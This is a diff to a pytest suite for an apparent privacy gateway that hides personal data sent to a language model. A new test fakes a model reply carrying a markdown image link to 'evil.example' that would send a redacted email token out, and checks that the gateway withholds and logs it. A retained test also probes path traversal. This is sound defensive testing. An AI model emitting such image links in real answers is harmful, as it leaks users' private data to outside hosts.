@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import json
+import re
 import socket
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
+from aiohttp import web
 from gateway_rig import Gateway, Service, gateway
 
 from masquerade.serve.clients import new_key
@@ -150,11 +152,6 @@ def test_only_known_headers_come_back(shared: Gateway, seen: Service) -> None:
     [
         ("POST", "/v1/assistants", 404, "unknown_url"),
         ("POST", "/v1/threads", 404, "unknown_url"),
-        ("GET", "/v1/responses/resp_1", 404, "unknown_url"),
-        ("DELETE", "/v1/responses/resp_1", 404, "unknown_url"),
-        ("POST", "/v1/responses/resp_1/cancel", 404, "unknown_url"),
-        ("GET", "/v1/responses/resp_1/input_items", 404, "unknown_url"),
-        ("POST", "/v1/conversations", 404, "unknown_url"),
         ("GET", "/v1/responses", 405, "method_not_allowed"),
         ("GET", f"/v1/models/{EMAIL}", 404, "unknown_url"),
         ("GET", "/playground/../gateway.py", 404, "unknown_url"),
@@ -391,6 +388,20 @@ def test_the_log_has_one_line_a_request_and_no_value(shared: Gateway, seen: Serv
     shared.get(f"/{EMAIL}?{PHONE}")
     log = shared.log_path.read_text()
     assert not any(value in log for value in (*PRIVATE, "sk-hidden"))
+
+
+def test_what_is_withheld_is_told_counted_and_logged(shared: Gateway, seen: Service) -> None:
+    async def moved(request: web.Request, body: bytes) -> web.StreamResponse:
+        token = re.search(r"\[EMAIL_\w+\]", body.decode())[0]  # type: ignore[index]
+        told = f"Dear {token} ![x](https://evil.example/?q={token})"
+        return web.json_response({"choices": [{"message": {"role": "assistant", "content": told}}]})
+
+    seen.behave = moved
+    answer = shared.chat(TEXT)
+    assert answer.content.startswith(f"Dear {EMAIL} ![x](https://evil.example/?q=[EMAIL_")
+    assert answer.json["masquerade"]["withheld"] == {"link": 1}
+    assert shared.logged(answer.headers["x-masquerade-request"])["withheld"] == {"link": 1}
+    assert 'masquerade_withheld_total{where="link"}' in shared.get("/metrics").body.decode()
 
 
 # The playground
